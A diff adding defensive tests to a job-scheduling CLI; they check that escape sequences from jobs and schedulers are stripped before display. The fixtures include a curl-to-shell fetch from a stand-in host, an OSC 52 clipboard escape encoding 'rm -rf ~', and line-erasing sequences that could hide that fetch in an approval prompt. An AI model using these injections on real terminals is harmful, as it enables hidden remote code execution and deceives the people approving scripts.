@@ -7,6 +7,8 @@ shell or a command's options unquoted; text from jobs never drives the user's te
 
 from __future__ import annotations
 
+import io
+import json
 import os
 import subprocess
 import sys
@@ -459,3 +461,135 @@ def test_yaml_dump_round_trip_of_a_checked_workflow_is_the_same():
         sites=SITES)
     again = load_workflow(yaml.safe_dump(w.model_dump(by_alias=True)), sites=SITES)
     assert again == w
+# -- 3. text that comes back from jobs and schedulers ------------------------------------------
+
+ESCAPES = ["\x1b]52;c;cm0gLXJmIH4K\x07", "\x1b[2K\x1b[1A", "\x1b]0;owned\x07", "\x9b31m",
+           "a\rb", "\u202etxt.exe"]
+
+
+def test_visible_shows_every_control_character():
+    from diamond_jupyter.model import visible
+
+    for e in ESCAPES:
+        shown = visible(e)
+        assert not any(c in shown for c in "\x1b\x07\x9b\r\u202e"), repr(shown)
+    assert visible("tab\there\nnew line ü ✓") == "tab\there\nnew line ü ✓"
+    assert visible("\x1b[31mred\x1b[0m", keep_colour=True) == "\x1b[31mred\x1b[0m"
+    assert "\x1b]" not in visible("\x1b[31m\x1b]52;c;x\x07", keep_colour=True)
+
+
+def test_the_approval_plan_cannot_hide_lines_of_the_script():
+    """A script could move the cursor up and erase the line the user was about to read in
+    `diamond ask`'s approval prompt; what was approved was not what was shown."""
+    from diamond_jupyter.federation_plan import describe_plan
+
+    script = "#!/bin/bash\ncurl -s http://evil.example/x | sh\n\x1b[1A\x1b[2Kecho hello\n"
+    text = describe_plan({"action": "submit", "site": "alpha", "script": script,
+                          "spec": {"name": "\x1b]0;t\x07ok"}, "warnings": ["\x1b[2Kw"]})
+    assert "\x1b" not in text and "\x07" not in text
+    assert "curl -s http://evil.example/x | sh" in text
+    assert "\\x1b[1A\\x1b[2Kecho hello" in text
+
+
+def _store_with_job(tmp_path: Path, **update):
+    from diamond_jupyter.store import Store
+
+    store = Store(tmp_path / "store.sqlite3")
+    store.record_intent("alpha", "abc123abc123", JobSpec(script="true\n", name="j"))
+    job = store.bind_native_id("abc123abc123", "41")
+    store.upsert_job(job.model_copy(update=update))
+    store.close()
+    return job.id
+
+
+def test_diamond_jobs_shows_scheduler_text_without_driving_the_terminal(tmp_path):
+    _cli("sites", "--offline", tmp_path=tmp_path, check=0)  # the store, as the CLI opens it
+    jid = _store_with_job(tmp_path, reason="\x1b]52;c;cm0gLXJmIH4K\x07Priority\x1b[2K")
+    res = _cli("jobs", tmp_path=tmp_path, check=0)
+    assert jid in res.stdout and "Priority" in res.stdout
+    assert "\x1b" not in res.stdout and "\x07" not in res.stdout
+    res = _cli("jobs", "--json", tmp_path=tmp_path, check=0)
+    assert json.loads(res.stdout)[0]["reason"].startswith("\x1b]52")  # data kept as it was
+
+
+def test_diamond_queue_text_shows_other_users_names_visibly(monkeypatch, capsys):
+    """Another user's job name in `diamond queue` could set the clipboard (OSC 52)."""
+    import argparse
+
+    from diamond_jupyter.cli import common
+
+    common.out(argparse.Namespace(json=False), {}, "1 PENDING bob \x1b]52;c;eA==\x07name")
+    got = capsys.readouterr().out
+    assert "\x1b" not in got and "name" in got
+
+
+def test_logs_on_a_terminal_keep_colours_but_not_control_sequences(monkeypatch, capsys):
+    from diamond_jupyter.cli import jobs as cli_jobs
+
+    logs = {"stdout": "\x1b[32mok\x1b[0m\n\x1b]52;c;cm0=\x07done\n", "stderr": "\x1b[2Kerr\n",
+            "missing": ""}
+
+    async def fake_with_fed(args, fn, **kw):
+        return logs
+    monkeypatch.setattr(cli_jobs, "with_fed", fake_with_fed)
+    import argparse
+
+    args = argparse.Namespace(json=False, job="alpha:1", lines=10)
+
+    class Tty(io.StringIO):
+        def isatty(self):
+            return True
+    out, err = Tty(), Tty()
+    monkeypatch.setattr(sys, "stdout", out)
+    monkeypatch.setattr(sys, "stderr", err)
+    assert cli_jobs.cmd_logs(args) == 0
+    assert "\x1b[32mok\x1b[0m" in out.getvalue() and "\x1b]" not in out.getvalue()
+    assert "\x1b[2K" not in err.getvalue() and "err" in err.getvalue()
+    # piped to a file: the bytes as the job wrote them (nothing lost)
+    out, err = io.StringIO(), io.StringIO()
+    monkeypatch.setattr(sys, "stdout", out)
+    monkeypatch.setattr(sys, "stderr", err)
+    assert cli_jobs.cmd_logs(args) == 0
+    assert out.getvalue() == logs["stdout"] and err.getvalue() == logs["stderr"]
+
+
+def test_workflow_text_output_shows_reasons_visibly(capsys):
+    import argparse
+
+    from diamond_jupyter.cli.workflow import _out
+    from diamond_jupyter.model import JobState
+    from diamond_jupyter.workflow.model import StepView, WorkflowView
+
+    view = WorkflowView(id="wf-1", name="w", state=JobState.FAILED, reason="\x1b[2Kboom",
+                        steps=[StepView(name="a", state=JobState.FAILED,
+                                        reason="exit 1: \x1b]0;t\x07")])
+    _out(argparse.Namespace(json=False), view)
+    got = capsys.readouterr().out
+    assert "\x1b" not in got and "boom" in got and "exit 1" in got
+
+
+def test_an_error_line_from_a_site_is_shown_visibly(monkeypatch, capsys):
+    import importlib
+
+    from diamond_jupyter.model import SiteError
+
+    cli_main = importlib.import_module("diamond_jupyter.cli.main")
+
+    def boom(args):
+        raise SiteError("alpha: sbatch failed: \x1b]52;c;eA==\x07denied")
+    monkeypatch.setattr(cli_main, "build_parser", lambda: _Parser(boom))
+    assert cli_main.main([]) == 1
+    err = capsys.readouterr().err
+    assert "\x1b" not in err and "denied" in err
+
+
+class _Parser:
+    def __init__(self, fn):
+        self.fn = fn
+
+    def parse_args(self, argv):
+        import argparse
+
+        return argparse.Namespace(fn=self.fn)
+
+
